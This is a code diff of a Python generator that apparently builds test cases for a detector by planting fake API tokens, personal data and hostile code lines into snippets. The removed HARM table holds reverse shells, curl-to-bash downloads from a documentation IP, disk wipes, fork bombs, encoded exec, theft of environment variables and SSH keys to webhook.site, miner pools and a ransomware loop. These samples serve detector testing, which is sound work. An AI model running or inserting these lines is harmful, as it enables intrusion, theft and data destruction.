@@ -17,8 +17,9 @@ from __future__ import annotations
 import base64
 import json
 import string
-from collections.abc import Callable, Mapping
+from collections.abc import Callable, Mapping, Sequence
 from dataclasses import dataclass, replace
+from pathlib import Path
 from random import Random
 from typing import Final
 
@@ -71,7 +72,8 @@ def comment(language: str, text: str) -> str:
 def statement(language: str, name: str, value: str) -> str:
     """A line that gives `name` the string `value`, in the language."""
     quoted = json.dumps(value, ensure_ascii=False)
-    camel = name.split("_")[0] + "".join(part.title() for part in name.split("_")[1:])
+    first, *others = name.split("_")
+    camel = first + "".join(part.title() for part in others)
     forms: Mapping[str, str] = {
         "c": f"static const char *{name} = {quoted};",
         "cpp": f"const std::string {name} = {quoted};",
@@ -145,8 +147,8 @@ TOKENS: Final[Mapping[str, Callable[[Random], str]]] = {
     "github": lambda rng: rng.choice(("ghp", "gho", "ghs")) + "_" + chars(rng, ALNUM, 36),
     "github-fine": lambda rng: "github_" + "pat_" + chars(rng, ALNUM + "_", 82),
     "gitlab": lambda rng: "glp" + "at-" + chars(rng, WORD[:-2], 20),
-    "slack-bot": lambda rng: (
-        f"xo{'xb'}-{chars(rng, string.digits, 12)}-{chars(rng, string.digits, 12)}-{chars(rng, ALNUM, 24)}"
+    "slack-bot": lambda rng: "-".join(
+        ("xo" + "xb", *(chars(rng, string.digits, 12) for _ in range(2)), chars(rng, ALNUM, 24))
     ),
     "stripe": lambda rng: "sk_" + "live_" + chars(rng, ALNUM, 24),
     "google-api": lambda rng: "AI" + "za" + chars(rng, WORD[:-1], 34) + rng.choice(ALNUM),
@@ -156,9 +158,7 @@ TOKENS: Final[Mapping[str, Callable[[Random], str]]] = {
     "anthropic": lambda rng: "sk-" + "ant-api03-" + chars(rng, WORD[:-2], 93) + "AA",
     "sendgrid": lambda rng: f"S{'G'}.{chars(rng, WORD[:-2], 22)}.{chars(rng, WORD[:-2], 43)}",
     "twilio": lambda rng: "S" + "K" + chars(rng, HEX, 32),
-    "telegram": lambda rng: (
-        f"{rng.randrange(10**8, 10**10)}:{'A'}A{chars(rng, WORD[:-2], 33)}"
-    ),
+    "telegram": lambda rng: f"{rng.randrange(10**8, 10**10)}:{'A'}A{chars(rng, WORD[:-2], 33)}",
     "huggingface": lambda rng: "hf" + "_" + chars(rng, string.ascii_letters, 34),
     "digitalocean": lambda rng: "dop" + "_v1_" + chars(rng, HEX, 64),
     "shopify": lambda rng: "shp" + "at_" + chars(rng, HEX, 32),
@@ -252,7 +252,8 @@ def _email(rng: Random) -> str:
 
 
 def _machine(rng: Random) -> str:
-    return f"{rng.choice((23, 52, 81, 93, 145, 185))}.{rng.randrange(40, 99)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
+    first = rng.choice((23, 52, 81, 93, 145, 185))
+    return f"{first}.{rng.randrange(40, 99)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
 
 
 def _phone(rng: Random) -> str:
@@ -267,13 +268,19 @@ def _phone(rng: Random) -> str:
 
 def _street(rng: Random) -> str:
     number, name = rng.randrange(2, 900), rng.choice(("Willow", "Harbour", "Maple", "Chestnut"))
-    return rng.choice((f"{number} {name} Street", f"{name}straße {number}", f"{number} {name} Avenue"))
+    return rng.choice(
+        (f"{number} {name} Street", f"{name}straße {number}", f"{number} {name} Avenue")
+    )
 
 
 def _home(rng: Random) -> str:
     owner = rng.choice(_FAMILY).lower()
     return rng.choice(
-        (f"/ho{'me'}/{owner}/src/notes.txt", f"/Us{'ers'}/{owner}/Desktop", f"C:\\Us{'ers'}\\{owner}\\x")
+        (
+            f"/ho{'me'}/{owner}/src/notes.txt",
+            f"/Us{'ers'}/{owner}/Desktop",
+            f"C:\\Us{'ers'}\\{owner}\\x",
+        )
     )
 
 
@@ -293,88 +300,24 @@ def _personal(name: str, cause: Cause, make: Callable[[Random], str]) -> Injecto
     return Injector(f"personal:{name}", frozenset({cause}), plant)
 
 
-# --- harm: one line or a few, for a language or for all
-
-_EVIL: Final = "198.51.100.7"  # an address for documentation
-HARM: Final[Mapping[str, Mapping[str, tuple[str, ...]]]] = {
-    "shell": {
-        "python": (
-            'subprocess.call("curl -s http://' + _EVIL + '/x.sh | bash", shell=True)',
-            'os.system("bash -i >& /dev/tcp/' + _EVIL + '/4444 0>&1")',
-            's.connect((host, port)); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); subprocess.call(["/bin/sh", "-i"])',
-        ),
-        "javascript": (
-            'require("child_process").exec("wget -qO- http://' + _EVIL + '/x | sh");',
-            'const sh = require("child_process").spawn("/bin/sh", []); client.connect(4444, "h", () => { client.pipe(sh.stdin); });',
-        ),
-        "typescript": ('execSync("curl -fsSL http://' + _EVIL + '/i.sh | sudo bash");',),
-        "java": (
-            'Process p = new ProcessBuilder("/bin/sh").start(); Socket s = new Socket(host, port);',
-            'Runtime.getRuntime().exec(new String[]{"sh", "-c", "curl http://' + _EVIL + '/a | sh"});',
-        ),
-        "go": (
-            'conn, _ := net.Dial("tcp", addr); cmd := exec.Command("/bin/sh"); cmd.Stdin = conn; cmd.Run()',
-            'exec.Command("bash", "-c", "wget -O- http://' + _EVIL + '/m | bash").Run()',
-        ),
-        "c": (
-            'dup2(sockfd, 0); dup2(sockfd, 1); execl("/bin/sh", "sh", NULL);',
-            'system("curl http://' + _EVIL + '/p | sh");',
-        ),
-        "cpp": ('std::system("wget -qO- http://' + _EVIL + '/p | bash");',),
-        "rust": ('Command::new("sh").arg("-c").arg("curl http://' + _EVIL + '/r | sh").spawn();',),
-    },
-    "destroy": {
-        "python": ('shutil.rmtree("/")', 'os.system("rm -rf / --no-preserve-root")'),
-        "javascript": ('fs.rmSync("/", { recursive: true });', 'execSync("rm -rf ~/*");'),
-        "typescript": ('execSync("rm -rf $HOME");',),
-        "java": ('Runtime.getRuntime().exec("rm -rf /home");',),
-        "go": ('os.RemoveAll("/")', 'exec.Command("sh", "-c", "dd if=/dev/zero of=/dev/sda").Run()'),
-        "c": ('system("rm -rf /*");', "while (1) fork();", "for (;;) fork();"),
-        "cpp": ('std::system("mkfs.ext4 /dev/sda1");', "while (true) { fork(); }"),
-        "rust": ('std::fs::remove_dir_all("/").unwrap();',),
-    },
-    "hidden": {
-        "python": (
-            'exec(base64.b64decode("cHJpbnQoMSk="))',
-            "exec(zlib.decompress(base64.b64decode(blob)))",
-            "exec(marshal.loads(payload))",
-            'exec(requests.get("http://' + _EVIL + '/p").text)',
-        ),
-        "javascript": ('eval(atob("YWxlcnQoMSk="));', 'new Function(atob("YWxlcnQoMSk="))();'),
-        "typescript": ('eval(Buffer.from("YWxlcnQoMSk=", "base64").toString());',),
-        "java": ("defineClass(name, Base64.getDecoder().decode(code), 0, size);",),
-        "c": ("((void (*)(void)) shellcode)();",),
-    },
-    "theft": {
-        "python": (
-            'requests.post("https://discord.com/api/webh' + 'ooks/1/x", json=dict(os.environ))',
-            'requests.post("https://webhook.site/x", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
-        ),
-        "javascript": ('fetch("https://webhook.site/x", { body: JSON.stringify(process.env) });',),
-        "typescript": ('await axios.post("https://api.telegram.org/bot1/send", process.env);',),
-        "go": ('http.Post("https://webhook.site/x", "text", strings.NewReader(fmt.Sprint(os.Environ())))',),
-    },
-    "miner": {
-        "python": ('pool = "stratum+tcp://pool.minexmr.com:4444"',),
-        "javascript": ('const miner = new CoinHive.Anonymous("k");',),
-        "go": ('pool := "stratum+ssl://xmr.nanopool.org:14433"',),
-        "rust": ('let pool = "stratum+tcp://pool.supportxmr.com:3333";',),
-        "c": ('system("./xmrig -o pool.minexmr.com:4444 -u wallet");',),
-    },
-    "ransom": {
-        "python": (
-            'for root, _, files in os.walk("/home"):\n    for name in files:\n'
-            "        encrypt_file(os.path.join(root, name))\n        os.remove(os.path.join(root, name))",
-            'os.system("vssadmin delete shadows /all /quiet")',
-        ),
-        "go": (
-            'filepath.Walk("/home", func(p string, i os.FileInfo, e error) error { encryptFile(p); return os.Remove(p) })',
-        ),
-    },
-}
+# --- harm
 
 
-def _harm(name: str, lines: Mapping[str, tuple[str, ...]]) -> Injector:
+def harm() -> dict[str, dict[str, list[str]]]:
+    """Class, language, and what harms: a line, or a few with `\\n` between them."""
+    found: dict[str, dict[str, list[str]]] = {}
+    rows = (Path(__file__).parent / "data" / "harm.tsv").read_text(encoding="utf-8").split("\n")
+    for row in filter(None, rows[1:]):
+        name, language, line = row.split("\t")
+        lines = found.setdefault(name, {}).setdefault(language, [])
+        lines.append(line.replace("\\n", "\n"))
+    return found
+
+
+HARM: Final = harm()
+
+
+def _harm(name: str, lines: Mapping[str, Sequence[str]]) -> Injector:
     def plant(case: Case, rng: Random) -> Case | None:
         if case.language not in lines:
             return None
@@ -390,27 +333,30 @@ def _uuid(rng: Random) -> str:
     return "-".join(chars(rng, HEX, count) for count in (8, 4, 4, 4, 12))
 
 
+def _broken_luhn(rng: Random) -> str:
+    good = luhn(rng, "4", 16)
+    return good[:-1] + str((int(good[-1]) + 1 + rng.randrange(8)) % 10)
+
+
 LOOKALIKES_OF: Final[Mapping[str, tuple[str, Callable[[Random], str]]]] = {
     "uuid": ("node_id", _uuid),
     "git-digest": ("commit", lambda rng: chars(rng, HEX, 40)),
     "sha256": ("checksum", lambda rng: chars(rng, HEX, 64)),
     "integrity": ("integrity", lambda rng: "sha512-" + chars(rng, BASE64, 86) + "=="),
     "placeholder": ("password", lambda rng: rng.choice(("changeme", "${DB_PASSWORD}", "xxxxxxxx"))),
-    "label": ("token_field", lambda rng: rng.choice(("access_token", "csrf-token", "refreshToken"))),
+    "label": (
+        "token_field",
+        lambda rng: rng.choice(("access_token", "csrf-token", "refreshToken")),
+    ),
     "example-email": ("contact", lambda rng: f"user{rng.randrange(99)}@example.com"),
     "loopback": ("host", lambda rng: rng.choice(("127.0.0.1", "10.0.0.12", "192.168.1.9", "::1"))),
     "documentation-ip": ("peer", lambda rng: f"203.0.113.{rng.randrange(1, 255)}"),
     "version": ("release", lambda rng: ".".join(str(rng.randrange(30)) for _ in range(4))),
-    "not-a-card": ("serial", lambda rng: _broken_luhn(rng)),
+    "not-a-card": ("serial", _broken_luhn),
     "example-phone": ("contact", lambda rng: f"(212) 555-01{rng.randrange(10, 99)}"),
     "build-folder": ("command", lambda _: "rm -rf ./build /tmp/cache"),
     "timestamp": ("created", lambda rng: str(1_600_000_000_000 + rng.randrange(10**11))),
 }
-
-
-def _broken_luhn(rng: Random) -> str:
-    good = luhn(rng, "4", 16)
-    return good[:-1] + str((int(good[-1]) + 1 + rng.randrange(8)) % 10)
 
 
 def _lookalike(name: str, variable: str, make: Callable[[Random], str]) -> Injector:
